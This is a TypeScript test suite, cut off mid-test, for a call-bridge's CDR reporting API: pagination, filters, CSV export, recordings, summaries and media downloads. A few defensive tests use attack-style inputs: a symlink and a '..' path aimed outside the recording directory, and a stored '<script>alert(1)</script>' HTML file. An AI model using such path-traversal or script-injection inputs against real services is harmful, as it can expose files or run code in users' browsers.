import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import Router from '@koa/router';
import pino from 'pino';
import { CallFields } from '../src/cdr/store';
import { apiAuth } from '../src/http/auth';
import { createHttpApp, listen } from '../src/http/server';
import { CALL_COLUMNS, REPORTING_COLUMNS } from '../src/reports/columns';
import { parseFilter } from '../src/reports/filters';
import { ReportStore } from '../src/reports/store';
import { startStack, TestStack } from './harness/bridge';
import { infra } from './harness/infra';
import { grantPermanentPermission } from './harness/permissions';
import { RtpPhone } from './harness/rtp-phone';
import { runSippUac, startSippUas } from './harness/sipp';
import { WaUser } from './harness/wa-user';
import { callParts } from './harness/call-parts';
import { whenEnded } from './harness/watch';
import { LogTap } from './harness/log-tap';
import { Timeline, within } from './harness/timeline';
import { rows } from './harness/db-rows';

const ADMIN = 'admin-token-for-reports-0123456789';
const READER = 'reporting-token-0123456789abcdef';
const MOS_THRESHOLD = 3.5;

/** A call as the API lists it (the fields these tests look at). */
interface ApiCall {
  id: string; direction: string; outcome: string | null; state: string; offered_at: string; agent: string | null;
  customer_number: string | null; business_number: string | null; pbx_target: string | null; mos: number | null;
  talk_seconds: number | null; recording_path: string | null; sip_final_code: number | null; hangup_by: string | null;
  wacid: string | null; media_stats?: { legs: Record<string, { packets: number }> } | null;
}
interface Page { calls: ApiCall[]; next_cursor: string | null }
interface Figures {
  offered: number; answered: number; missed: number; abandoned: number; answer_rate: number | null;
  talk_seconds_total: number; talk_seconds_avg: number | null; wait_seconds_avg: number | null; wait_seconds_p90: number | null;
}
interface Summary { from: string; to: string; groups: Array<Figures & { group: string | null; period_start: string | null }>; totals: Figures }

/** A synthetic CDR written through the bridge's own writer (CdrStore.createCall). */
type Row = CallFields & { id: string; direction: 'inbound' | 'outbound'; state: string; offered_at: Date };

/** RFC 4180 parser for the checks (quoted fields with commas, doubled quotes, CR/LF inside). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += ch;
  }
  assert.equal(field, '', 'CSV ends with CRLF');
  return rows;
}

const byNewest = (a: Row, b: Row) => b.offered_at.getTime() - a.offered_at.getTime() || (b.id < a.id ? -1 : b.id > a.id ? 1 : 0);

describe('CDR reporting API', function () {
  this.timeout(60000);
  let stack: TestStack;
  let recordingDir: string;

  before(async () => {
    recordingDir = fs.mkdtempSync(path.join(os.tmpdir(), 'wasb-rec-'));
    stack = await startStack({
      ADMIN_API_TOKEN: ADMIN, REPORTING_API_TOKENS: `${READER},second-reporting-token-0123`,
      CALL_QUALITY_MOS_THRESHOLD: String(MOS_THRESHOLD), RECORDING_DIR: recordingDir, WA_WABA_ID: '188234691048809',
      WA_BUSINESS_NUMBER: '+6283138205150',
    });
  });
  after(async () => {
    await stack?.stop();
    fs.rmSync(recordingDir, { recursive: true, force: true });
  });

  const api = (p: string, o: { token?: string | null; method?: string; headers?: Record<string, string> } = {}) => {
    const token = o.token === undefined ? READER : o.token;
    const headers: Record<string, string> = { ...(token ? { Authorization: `Bearer ${token}` } : {}), ...o.headers };
    return fetch(`http://127.0.0.1:${stack.bridge.httpPort}${p}`, { method: o.method ?? 'GET', headers });
  };
  const json = async <T>(p: string, token?: string): Promise<T> => {
    const res = await api(p, { token });
    assert.equal(res.status, 200, `${p}: ${res.status} ${await res.clone().text()}`);
    return (await res.json()) as T;
  };

  async function write(rows: Row[]): Promise<void> {
    for (let i = 0; i < rows.length; i += 16) {
      await Promise.all(rows.slice(i, i + 16).map(({ id, ...f }) => stack.bridge.cdr.createCall(id, f)));
    }
  }

  /** Every page of a list (limit 1000), checking the pages chain up. */
  async function listAll(query: string, limit = 1000): Promise<ApiCall[]> {
    const out: ApiCall[] = [];
    let cursor: string | null = null;
    do {
      const page: Page = await json<Page>(`/api/calls?${query}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
      out.push(...page.calls);
      cursor = page.next_cursor;
    } while (cursor);
    return out;
  }

  // ---------------------------------------------------------------------------------------------
  // Rows written through the bridge's CDR writer, in windows of 2019 no other test writes to.
  // ---------------------------------------------------------------------------------------------
  const A_FROM = '2019-03-01T00:00:00Z';
  const A_TO = '2019-03-08T00:00:00Z';
  const A = `from=${A_FROM}&to=${A_TO}`;
  const OUTCOMES = ['answered', 'busy', 'no_answer', 'rejected', 'unreachable', 'caller_hangup', 'failed'] as const;
  const TARGET_A = 'sip:pbx-a.example.com:5060;transport=tcp';
  const rowsA: Row[] = [];

  function rowA(i: number, offered: Date, business = i % 2 ? '+15550100001' : '+15550100002'): Row {
    const live = i % 97 === 0;
    const outcome = live ? null : OUTCOMES[i % 7]!;
    return {
      id: crypto.randomUUID(), direction: i % 3 === 0 ? 'outbound' : 'inbound', state: live ? 'accepted' : 'ended', offered_at: offered,
      outcome, customer_number: `+1555020${String(i % 50).padStart(4, '0')}`, business_number: business,
      agent: outcome === 'answered' ? `agent${i % 5}` : null, pbx_target: i % 4 === 0 ? TARGET_A : 'sip:pbx-b.example.com',
      talk_seconds: outcome === 'answered' ? String(30 + (i % 17)) : null, accepted_at: outcome === 'answered' ? new Date(offered.getTime() + 4000) : null,
      mos: i % 10 === 0 ? null : (1 + (i % 40) / 10).toFixed(2),
      recording_path: i % 25 === 0 ? `/var/lib/rec/${i}.wav` : null, recording_deleted_at: i % 50 === 0 ? new Date(offered.getTime() + 86400e3) : null,
    };
  }

  before(async function () {
    this.timeout(120000);
    // Three calls share each offered_at, so pages must break ties by id.
    const base = Date.parse(A_FROM) + 3600e3;
    for (let i = 0; i < 1203; i++) rowsA.push(rowA(i, new Date(base + Math.floor(i / 3) * 7 * 60e3)));
    await write(rowsA);
  });

  const expectA = (pred: (r: Row) => boolean) => rowsA.filter(pred).sort(byNewest).map((r) => r.id);

  describe('list and filters', () => {
    it('pages through every call of a range, newest first, with no duplicate and no gap, stable while calls are added', async () => {
      const seen: ApiCall[] = [];
      let cursor: string | null = null;
      let pages = 0;
      const added: Row[] = [];
      do {
        const page: Page = await json<Page>(`/api/calls?${A}&limit=100${cursor ? `&cursor=${cursor}` : ''}`);
        assert.ok(page.calls.length <= 100);
        seen.push(...page.calls);
        cursor = page.next_cursor;
        if (++pages === 3) {
          // Calls newer than the pages read so far (not in this listing) and older ones (in it, later).
          const newer = [0, 1, 2].map((k) => rowA(2000 + k, new Date(Date.parse(A_TO) - 1000 - k)));
          const older = [0, 1].map((k) => rowA(3000 + k, new Date(Date.parse(A_FROM) + 60e3 + k)));
          await write([...newer, ...older]);
          added.push(...newer, ...older);
        }
      } while (cursor);
      const ids = seen.map((c) => c.id);
      assert.equal(new Set(ids).size, ids.length, 'no call listed twice');
      const older = added.slice(3);
      const expected = [...rowsA, ...older].sort(byNewest).map((r) => r.id);
      assert.deepEqual(ids, expected, 'every call once, in (offered_at, id) descending order');
      assert.equal(pages, Math.ceil(expected.length / 100));
      rowsA.push(...added);
    });

    it('the default page is 100 calls with a cursor; a page that ends the list has next_cursor null', async () => {
      const first = await json<Page>(`/api/calls?${A}`);
      assert.equal(first.calls.length, 100);
      assert.match(first.next_cursor ?? '', /^[A-Za-z0-9_-]+$/);
      const q = `${A}&outcome=busy&business=${encodeURIComponent('+15550100001')}`;
      const n = expectA((r) => r.outcome === 'busy' && r.business_number === '+15550100001').length;
      const exact = await json<Page>(`/api/calls?${q}&limit=${n}`);
      assert.equal(exact.calls.length, n);
      assert.equal(exact.next_cursor, null, 'exactly `limit` calls left: no further page');
      const short = await json<Page>(`/api/calls?${q}&limit=${n - 1}`);
      assert.ok(short.next_cursor);
      const rest = await json<Page>(`/api/calls?${q}&limit=${n - 1}&cursor=${short.next_cursor}`);
      assert.deepEqual(rest.calls.map((c) => c.id), [exact.calls[n - 1]!.id]);
      assert.equal(rest.next_cursor, null);
    });

    const inA = (r: Row) => r.offered_at >= new Date(A_FROM) && r.offered_at < new Date(A_TO);
    const cases: Array<[string, (r: Row) => boolean]> = [
      ['direction=inbound', (r) => r.direction === 'inbound'],
      ['outcome=busy', (r) => r.outcome === 'busy'],
      ['outcome=no_answer,caller_hangup', (r) => r.outcome === 'no_answer' || r.outcome === 'caller_hangup'],
      [`customer=${encodeURIComponent('+15550200007')}`, (r) => r.customer_number === '+15550200007'],
      [`business=${encodeURIComponent('+15550100001')}`, (r) => r.business_number === '+15550100001'],
      ['agent=agent3', (r) => r.agent === 'agent3'],
      [`pbx_target=${encodeURIComponent(TARGET_A)}`, (r) => r.pbx_target === TARGET_A],
      ['state=accepted', (r) => r.state === 'accepted'],
      ['mos_below=2.5', (r) => r.mos != null && Number(r.mos) < 2.5],
      ['poor_quality=true', (r) => r.mos != null && Number(r.mos) < MOS_THRESHOLD],
      ['poor_quality=true&mos_below=4.5', (r) => r.mos != null && Number(r.mos) < MOS_THRESHOLD],
      ['poor_quality=true&mos_below=2', (r) => r.mos != null && Number(r.mos) < 2],
      ['recorded=true', (r) => r.recording_path != null && r.recording_deleted_at == null],
      [`direction=inbound&outcome=answered&business=${encodeURIComponent('+15550100001')}`, (r) => r.direction === 'inbound' && r.outcome === 'answered' && r.business_number === '+15550100001'],
    ];
    for (const [q, pred] of cases) {
      it(`filter ${decodeURIComponent(q)}`, async () => {
        const expected = expectA((r) => inA(r) && pred(r));
        assert.ok(expected.length > 0, 'the case selects some calls');
        assert.deepEqual((await listAll(`${A}&${q}`, 1000)).map((c) => c.id), expected);
      });
    }

    it('filter from/to: offered_at in [from, to), bounds with offsets and without (UTC)', async () => {
      const from = new Date(Date.parse(A_FROM) + 3600e3 + 70 * 60e3); // exactly the offered_at of rows 30..32
      const to = new Date(from.getTime() + 7 * 7 * 60e3); // rows 51..53 start here: excluded
      const expected = expectA((r) => r.offered_at >= from && r.offered_at < to);
      assert.equal(expected.length, 21);
      const jakarta = (d: Date) => encodeURIComponent(new Date(d.getTime() + 7 * 3600e3).toISOString().slice(0, 19) + '+07:00');
      assert.deepEqual((await listAll(`from=${jakarta(from)}&to=${jakarta(to)}`)).map((c) => c.id), expected);
      assert.deepEqual((await listAll(`from=${from.toISOString().slice(0, 19)}&to=${to.toISOString().slice(0, 19)}`)).map((c) => c.id), expected);
    });

    it('DECIMAL columns are JSON numbers and timestamps ISO 8601 UTC', async () => {
      const page = await json<Page>(`/api/calls?${A}&outcome=answered&limit=5`);
      for (const c of page.calls) {
        assert.equal(typeof c.talk_seconds, 'number');
        assert.match(c.offered_at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
        if (c.mos !== null) assert.equal(typeof c.mos, 'number');
      }
    });
  });

  describe('CSV export', () => {
    it('Accept: text/csv streams every matching call with a header row, ISO timestamps and an attachment name', async () => {
      const res = await api(`/api/calls?${A}&direction=outbound`, { headers: { Accept: 'text/csv' } });
      assert.equal(res.status, 200);
      assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
      assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="calls_20190301T000000Z_20190308T000000Z\.csv"$/);
      const rows = parseCsv(await res.text());
      assert.deepEqual(rows[0], REPORTING_COLUMNS.map((c) => c.name), 'a reporting token: every column but recording_path');
      const data = rows.slice(1);
      const expected = expectA((r) => r.direction === 'outbound' && r.offered_at >= new Date(A_FROM) && r.offered_at < new Date(A_TO));
      assert.deepEqual(data.map((r) => r[0]), expected);
      const col = (name: string) => REPORTING_COLUMNS.findIndex((c) => c.name === name);
      const json1 = (await json<Page>(`/api/calls?${A}&direction=outbound&limit=1`)).calls[0]!;
      assert.equal(data[0]![col('offered_at')], json1.offered_at);
      assert.equal(data[0]![col('talk_seconds')], json1.talk_seconds === null ? '' : String(json1.talk_seconds));
    });

    it('format=csv does the same; limit and cursor are refused with it', async () => {
      const res = await api(`/api/calls?${A}&outcome=busy&format=csv`);
      assert.equal(res.status, 200);
      assert.equal(parseCsv(await res.text()).length - 1, expectA((r) => r.outcome === 'busy').length);
      const bad = await api(`/api/calls?${A}&format=csv&limit=10`);
      assert.equal(bad.status, 400);
      assert.equal(((await bad.json()) as { field: string }).field, 'limit');
    });

    it('quotes commas, quotes and line breaks (RFC 4180) and gets the values back intact', async () => {
      const awkward: Row = {
        id: crypto.randomUUID(), direction: 'inbound', state: 'ended', offered_at: new Date('2019-04-01T10:00:00.250Z'), outcome: 'failed',
        agent: 'Smith, John', sip_final_reason: 'He said "no", twice', error: 'line one\nline two\r\nline "three"', customer_number: '+15550300001',
        pbx_target: 'sip:queue@pbx;transport=tls', wa_codec: ' padded ',
      };
      await write([awkward]);
      const res = await api('/api/calls?from=2019-04-01&to=2019-04-02&format=csv');
      const text = await res.text();
      assert.match(text, /"Smith, John"/);
      assert.match(text, /"He said ""no"", twice"/);
      const [header, row] = parseCsv(text);
      const get = (n: string) => row![header!.indexOf(n)];
      assert.equal(get('agent'), 'Smith, John');
      assert.equal(get('sip_final_reason'), 'He said "no", twice');
      assert.equal(get('error'), 'line one\nline two\r\nline "three"');
      assert.equal(get('wa_codec'), ' padded ');
      assert.equal(get('offered_at'), '2019-04-01T10:00:00.250Z');
      assert.equal(get('talk_seconds'), '');
    });

    it('fetches in keyset batches that join up, and stops querying when the reader goes away', async () => {
      const reports = new ReportStore(stack.bridge.reportingDb);
      const filter = parseFilter({ from: A_FROM, to: A_TO }, MOS_THRESHOLD);
      let batches = 0;
      const full = reports.exportCsv(filter, { batchRows: 100, onBatch: () => batches++ });
      let text = '';
      for await (const chunk of full) text += (chunk as Buffer).toString('utf8');
      const ids = parseCsv(text).slice(1).map((r) => r[0]);
      assert.deepEqual(ids, expectA((r) => r.offered_at >= new Date(A_FROM) && r.offered_at < new Date(A_TO)));
      assert.equal(batches, Math.ceil(ids.length / 100), 'one query per batch, none after the last');

      let early = 0;
      const cut = reports.exportCsv(filter, { batchRows: 50, onBatch: () => early++ });
      await new Promise<void>((resolve) => cut.once('data', () => resolve()));
      const closed = new Promise<void>((resolve) => cut.once('close', () => resolve()));
      cut.destroy();
      await closed; // after the batch in flight, if any, has come back
      const after = early;
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(early, after, 'no query after the stream was destroyed');
      assert.ok(early <= 3, `only the batches read ahead were fetched (${early} of ${Math.ceil(ids.length / 50)})`);
    });

    it('a client that disconnects mid-export does not upset the server', async () => {
      const ac = new AbortController();
      const res = await fetch(`http://127.0.0.1:${stack.bridge.httpPort}/api/calls?format=csv`, { headers: { Authorization: `Bearer ${READER}` }, signal: ac.signal });
      const reader = res.body!.getReader();
      await reader.read();
      ac.abort();
      await reader.read().catch(() => undefined);
      assert.equal((await api(`/api/calls?${A}&limit=1`)).status, 200);
    });
  });

  describe('one call', () => {
    it('has every column, media_stats and its timeline in order', async () => {
      const id = crypto.randomUUID();
      const at = new Date('2019-05-01T09:00:00Z');
      await stack.bridge.cdr.createCall(id, {
        direction: 'inbound', state: 'ended', offered_at: at, outcome: 'answered', talk_seconds: '12.345', mos: '4.10', jitter_ms: '3.25',
        media_stats: { legs: { whatsapp: { packets: 600, bytes: 1, errors: 0, codec: 'opus/48000/2' } }, totals: null, durationSeconds: 13 } as object,
        recording_bytes: '1024',
      });
      await stack.bridge.cdr.addEvent(id, 'offered', null, at);
      await stack.bridge.cdr.addEvent(id, 'pre_accepted', { ms: 3 }, new Date(at.getTime() + 100));
      await stack.bridge.cdr.addEvent(id, 'invite_sent', null, new Date(at.getTime() + 100));
      const body = await json<{ call: Record<string, unknown>; timeline: Array<{ at: string; type: string; detail: unknown }> }>(`/api/calls/${id}`);
      assert.equal(body.call.id, id);
      assert.equal(body.call.talk_seconds, 12.345);
      assert.equal(body.call.mos, 4.1);
      assert.equal(body.call.jitter_ms, 3.25);
      assert.equal(body.call.recording_bytes, 1024);
      for (const c of REPORTING_COLUMNS) assert.ok(c.name in body.call, `column ${c.name}`);
      assert.ok(!('recording_path' in body.call), 'a reporting token does not see recording_path');
      const asAdmin = await json<{ call: Record<string, unknown> }>(`/api/calls/${id}`, ADMIN);
      for (const c of CALL_COLUMNS) assert.ok(c.name in asAdmin.call, `admin: column ${c.name}`);
      assert.deepEqual((body.call.media_stats as { legs: Record<string, unknown> }).legs.whatsapp, { packets: 600, bytes: 1, errors: 0, codec: 'opus/48000/2' });
      assert.deepEqual(body.timeline.map((e) => e.type), ['offered', 'pre_accepted', 'invite_sent']);
      assert.deepEqual(body.timeline[1]!.detail, { ms: 3 });
      assert.equal(body.timeline[0]!.at, at.toISOString());
    });

    it('404 for an unknown id, 400 for one that is not a UUID', async () => {
      assert.equal((await api(`/api/calls/${crypto.randomUUID()}`)).status, 404);
      const res = await api('/api/calls/12345');
      assert.equal(res.status, 400);
      assert.deepEqual(await res.json(), { error: 'id must be a call id (a UUID), got "12345"', field: 'id' });
    });
  });

  describe('recordings', () => {
    async function recorded(fields: CallFields): Promise<string> {
      const id = crypto.randomUUID();
      await stack.bridge.cdr.createCall(id, { direction: 'inbound', state: 'ended', offered_at: new Date('2019-05-02T09:00:00Z'), ...fields });
      return id;
    }

    it('streams the file with its type and length', async () => {
      const file = path.join(recordingDir, 'call.wav');
      const bytes = crypto.randomBytes(5000);
      fs.writeFileSync(file, bytes);
      const id = await recorded({ recording_path: file, recording_bytes: '5000' });
      const res = await api(`/api/calls/${id}/recording`);
      assert.equal(res.status, 200);
      assert.equal(res.headers.get('content-type'), 'audio/wav');
      assert.equal(res.headers.get('content-length'), '5000');
      assert.deepEqual(Buffer.from(await res.arrayBuffer()), bytes);
    });

    it('404 without a recording, once deleted, when the file is gone, or outside RECORDING_DIR', async () => {
      const file = path.join(recordingDir, 'deleted.wav');
      fs.writeFileSync(file, 'x');
      const outside = path.join(os.tmpdir(), `wasb-outside-${process.pid}.wav`);
      fs.writeFileSync(outside, 'secret');
      fs.symlinkSync(outside, path.join(recordingDir, 'link.wav'));
      const ids = [
        await recorded({}),
        await recorded({ recording_path: file, recording_deleted_at: new Date() }),
        await recorded({ recording_path: path.join(recordingDir, 'missing.wav') }),
        await recorded({ recording_path: outside }),
        await recorded({ recording_path: path.join(recordingDir, '..', path.basename(outside)) }),
        await recorded({ recording_path: path.join(recordingDir, 'link.wav') }),
      ];
      for (const id of ids) assert.equal((await api(`/api/calls/${id}/recording`)).status, 404, id);
      fs.rmSync(outside, { force: true });
      assert.equal((await api(`/api/calls/${crypto.randomUUID()}/recording`)).status, 404);
    });
  });

  describe('summary', () => {
    const at = (iso: string, plusS = 0) => new Date(Date.parse(iso) + plusS * 1000);
    const call = (offered: Date, f: CallFields & { direction: 'inbound' | 'outbound' }): Row => ({
      id: crypto.randomUUID(), state: 'ended', offered_at: offered, ...f,
    });
    const answered = (offered: Date, direction: 'inbound' | 'outbound', wait: number, talk: number, agent: string, business: string) =>
      call(offered, { direction, outcome: 'answered', accepted_at: new Date(offered.getTime() + wait * 1000), talk_seconds: String(talk), agent, business_number: business });

    before(async () => {
      const IN = '+15550600001';
      const OUT = '+15550600002';
      await write([
        // 2019-06-01 17:xx in Jakarta (UTC+7): ten inbound calls answered after 1..10 s, 60 s each.
        ...Array.from({ length: 10 }, (_, k) => answered(at('2019-06-01T10:00:00Z', k * 60), 'inbound', k + 1, 60, 'agentA', IN)),
        // 2019-06-02 01:00 in Jakarta, still 2019-06-01 in UTC.
        answered(at('2019-06-01T18:00:00Z'), 'outbound', 5, 30, 'agentB', OUT),
        answered(at('2019-06-01T18:30:00Z'), 'outbound', 15, 90, 'agentB', OUT),
        ...[0, 1, 2].map((k) => call(at('2019-06-01T20:00:00Z', k), { direction: 'inbound', outcome: 'busy', business_number: IN })),
        ...[0, 1].map((k) => call(at('2019-06-02T01:00:00Z', k), { direction: 'inbound', outcome: 'caller_hangup', business_number: IN })),
        call(at('2019-06-02T02:00:00Z'), { direction: 'outbound', outcome: 'no_answer', business_number: OUT }),
        call(at('2019-06-02T03:00:00Z'), { direction: 'inbound', business_number: IN, state: 'ringing' }),
        // New York, around the end of daylight saving time (2019-11-03 06:00Z).
        call(at('2019-11-02T03:30:00Z'), { direction: 'inbound', outcome: 'busy' }),
        call(at('2019-11-03T05:30:00Z'), { direction: 'inbound', outcome: 'busy' }),
        call(at('2019-11-04T04:30:00Z'), { direction: 'inbound', outcome: 'busy' }),
      ]);
    });

    const figures = (f: Figures): Figures => ({
      offered: f.offered, answered: f.answered, missed: f.missed, abandoned: f.abandoned, answer_rate: f.answer_rate,
      talk_seconds_total: f.talk_seconds_total, talk_seconds_avg: f.talk_seconds_avg, wait_seconds_avg: f.wait_seconds_avg, wait_seconds_p90: f.wait_seconds_p90,
    });

    it('by day in Asia/Jakarta: local dates bound the range and the days; every figure', async () => {
      const s = await json<Summary>('/api/reports/summary?from=2019-06-01&to=2019-06-03&group_by=day&tz=Asia/Jakarta');
      assert.equal(s.from, '2019-05-31T17:00:00.000000Z');
      assert.equal(s.to, '2019-06-02T17:00:00.000000Z');
      assert.deepEqual(s.groups.map((g) => [g.group, g.period_start]), [['2019-06-01', '2019-05-31T17:00:00.000Z'], ['2019-06-02', '2019-06-01T17:00:00.000Z']]);
      assert.deepEqual(figures(s.groups[0]!), {
        offered: 10, answered: 10, missed: 0, abandoned: 0, answer_rate: 1, talk_seconds_total: 600, talk_seconds_avg: 60, wait_seconds_avg: 5.5, wait_seconds_p90: 9.1,
      });
      assert.deepEqual(figures(s.groups[1]!), {
        offered: 9, answered: 2, missed: 5, abandoned: 2, answer_rate: 0.2222, talk_seconds_total: 120, talk_seconds_avg: 60, wait_seconds_avg: 10, wait_seconds_p90: 14,
      });
      // Waits 1..10, 5, 15: mean 6.25; p90 interpolates between the 10th and 11th of 12 (9 and 10).
      assert.deepEqual(s.totals, {
        offered: 19, answered: 12, missed: 5, abandoned: 2, answer_rate: 0.6316, talk_seconds_total: 720, talk_seconds_avg: 60, wait_seconds_avg: 6.25, wait_seconds_p90: 9.9,
      });
    });

    it('by day in UTC the same calls fall on other days', async () => {
      const s = await json<Summary>('/api/reports/summary?from=2019-06-01T00:00:00Z&to=2019-06-03T00:00:00Z&group_by=day');
      assert.deepEqual(s.groups.map((g) => [g.group, g.offered, g.answered]), [['2019-06-01', 15, 12], ['2019-06-02', 4, 0]]);
    });

    it('by day across a daylight-saving change (America/New_York)', async () => {
      const s = await json<Summary>('/api/reports/summary?from=2019-11-01&to=2019-11-04&group_by=day&tz=America/New_York');
      assert.deepEqual(s.groups.map((g) => [g.group, g.period_start, g.offered]), [
        ['2019-11-01', '2019-11-01T04:00:00.000Z', 1], ['2019-11-03', '2019-11-03T04:00:00.000Z', 2],
      ]);
      assert.equal(s.to, '2019-11-04T05:00:00.000000Z');
    });

    it('by hour, by agent, by business number, and for one direction', async () => {
      const range = 'from=2019-06-01T00:00:00Z&to=2019-06-03T00:00:00Z';
      const hours = await json<Summary>(`/api/reports/summary?${range}&group_by=hour`);
      assert.deepEqual(hours.groups.map((g) => [g.group, g.offered]), [
        ['2019-06-01T10:00', 10], ['2019-06-01T18:00', 2], ['2019-06-01T20:00', 3], ['2019-06-02T01:00', 2], ['2019-06-02T02:00', 1], ['2019-06-02T03:00', 1],
      ]);
      const agents = await json<Summary>(`/api/reports/summary?${range}&group_by=agent`);
      assert.deepEqual(agents.groups.map((g) => [g.group, g.period_start, g.offered, g.answered, g.wait_seconds_avg]), [
        ['agentA', null, 10, 10, 5.5], ['agentB', null, 2, 2, 10], [null, null, 7, 0, null],
      ]);
      const numbers = await json<Summary>(`/api/reports/summary?${range}&group_by=business_number`);
      assert.deepEqual(numbers.groups.map((g) => [g.group, g.offered, g.missed]), [['+15550600001', 16, 5], ['+15550600002', 3, 0]]);
      const out = await json<Summary>(`/api/reports/summary?${range}&direction=outbound`);
      assert.deepEqual(figures(out.totals), {
        offered: 3, answered: 2, missed: 0, abandoned: 0, answer_rate: 0.6667, talk_seconds_total: 120, talk_seconds_avg: 60, wait_seconds_avg: 10, wait_seconds_p90: 14,
      });
    });

    it('a range without calls has no groups and zero totals', async () => {
      const s = await json<Summary>('/api/reports/summary?from=2019-01-01&to=2019-01-02');
      assert.deepEqual(s.groups, []);
      assert.deepEqual(s.totals, {
        offered: 0, answered: 0, missed: 0, abandoned: 0, answer_rate: null, talk_seconds_total: 0, talk_seconds_avg: null, wait_seconds_avg: null, wait_seconds_p90: null,
      });
    });
  });

  describe('issue 19: providers, numbers, users known by BSUID, call media', () => {
    const Y = 'from=2019-08-01T00:00:00Z&to=2019-08-02T00:00:00Z';
    const at = (h: number) => new Date(Date.UTC(2019, 7, 1, h));
    const bsuid = `US.${'7'.repeat(40)}`;
    const ids = { meta: crypto.randomUUID(), ycloud: crypto.randomUUID(), eu: crypto.randomUUID(), other: crypto.randomUUID() };
    before(async () => {
      await write([
        {
          id: ids.meta, direction: 'inbound', state: 'ended', offered_at: at(1), outcome: 'answered', provider: 'meta', provider_kind: 'meta', number_name: 'sales',
          customer_number: bsuid, user_id: bsuid, profile_name: 'Ana Silva 100%', username: 'Ana_S', cta_payload: 'spring-campaign', deeplink_payload: 'dl-1',
          context: 'ticket=42', wacid: `wacid.r19.${ids.meta}`,
        },
        { id: ids.ycloud, direction: 'inbound', state: 'ended', offered_at: at(2), provider: 'ycloud', provider_kind: 'ycloud', number_name: 'support', customer_number: '+15550700001', profile_name: 'Bob' },
        { id: ids.eu, direction: 'outbound', state: 'ended', offered_at: at(3), provider: 'meta-eu', provider_kind: 'meta', number_name: 'sales', user_id: 'DE.ENT.xyz', username: 'ana_s', profile_name: 'ANA 100% real' },
        { id: ids.other, direction: 'inbound', state: 'ended', offered_at: at(4), provider: 'meta', profile_name: 'Anna 1000', cta_payload: 'other' },
      ]);
    });

    const cases: Array<[string, string[]]> = [
      [`user_id=${bsuid}`, [ids.meta]],
      [`customer=${bsuid}`, [ids.meta]],
      ['username=%40ANA_s', [ids.eu, ids.meta]],
      [`profile_name=${encodeURIComponent('a 100%')}`, [ids.eu, ids.meta]],
      ['profile_name=ana', [ids.eu, ids.meta]],
      ['provider=meta', [ids.other, ids.meta]],
      ['number_name=sales', [ids.eu, ids.meta]],
      ['number_name=sales&provider=meta-eu', [ids.eu]],
      ['cta_payload=spring-campaign', [ids.meta]],
    ];
    for (const [q, expected] of cases) {
      it(`filter ${decodeURIComponent(q)}`, async () => {
        assert.deepEqual((await listAll(`${Y}&${q}`)).map((c) => c.id), expected);
      });
    }

    it('the new fields are in the list, the detail view and the CSV', async () => {
      const [listed] = await listAll(`${Y}&user_id=${bsuid}`) as unknown as Array<Record<string, unknown>>;
      const want = {
        provider: 'meta', provider_kind: 'meta', number_name: 'sales', user_id: bsuid, customer_number: bsuid, profile_name: 'Ana Silva 100%', username: 'Ana_S',
        cta_payload: 'spring-campaign', deeplink_payload: 'dl-1', context: 'ticket=42',
      };
      for (const [k, v] of Object.entries(want)) assert.equal(listed![k], v, k);
      const one = await json<{ call: Record<string, unknown>; media: unknown[] }>(`/api/calls/${ids.meta}`);
      for (const [k, v] of Object.entries(want)) assert.equal(one.call[k], v, k);
      assert.deepEqual(one.media, []);
      const [header, ...data] = parseCsv(await (await api(`/api/calls?${Y}&user_id=${bsuid}&format=csv`)).text());
      assert.equal(data.length, 1);
      for (const [k, v] of Object.entries(want)) assert.equal(data[0]![header!.indexOf(k)], v, k);
    });

    it("lists the call's media files and serves each with its type; 404 for another call's, a failed or a deleted one", async () => {
      const media = stack.bridge.db.media;
      const body = crypto.randomBytes(3000);
      const file = path.join(recordingDir, 'media-r19.ogg');
      fs.writeFileSync(file, body);
      const wacid = `wacid.r19.${ids.meta}`;
      const rec = await media.add({ wacid, provider: 'meta', kind: 'recording', mediaId: 'm-rec', mimeType: 'audio/ogg; codecs=opus', sha256: null });
      await media.stored(rec.id, { path: file, bytes: 3000, mimeType: null, attempts: 1 });
      const html = path.join(recordingDir, 'media-r19.html');
      fs.writeFileSync(html, '<script>alert(1)</script>');
      const odd = await media.add({ wacid, provider: 'meta', kind: 'transcription', mediaId: 'm-tr', mimeType: 'text/html', sha256: null });
      await media.stored(odd.id, { path: html, bytes: 25, mimeType: null, attempts: 1 });
      const failed = await media.add({ wacid, provider: 'meta', kind: 'voicemail', mediaId: 'm-vm', mimeType: 'audio/ogg', sha256: null });
      await media.failed(failed.id, 'media download: HTTP 404', 3);
      const elsewhere = await media.add({ wacid: `wacid.r19.${ids.ycloud}`, provider: 'meta', kind: 'recording', mediaId: 'm-x', mimeType: 'audio/ogg', sha256: null });
      await media.stored(elsewhere.id, { path: file, bytes: 3000, mimeType: null, attempts: 1 });

      const one = await json<{ media: Array<{ id: number; kind: string; url: string | null; error: string | null; bytes: number | null }> }>(`/api/calls/${ids.meta}`);
      assert.deepEqual(one.media.map((m) => [m.id, m.kind, m.url, m.error]), [
        [rec.id, 'recording', `/api/calls/${ids.meta}/media/${rec.id}`, null],
        [odd.id, 'transcription', `/api/calls/${ids.meta}/media/${odd.id}`, null],
        [failed.id, 'voicemail', null, 'media download: HTTP 404'],
      ]);
      assert.equal(one.media[0]!.bytes, 3000);

      const res = await api(`/api/calls/${ids.meta}/media/${rec.id}`);
      assert.equal(res.status, 200);
      assert.equal(res.headers.get('content-type'), 'audio/ogg');
      assert.equal(res.headers.get('content-length'), '3000');
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      assert.deepEqual(Buffer.from(await res.arrayBuffer()), body);
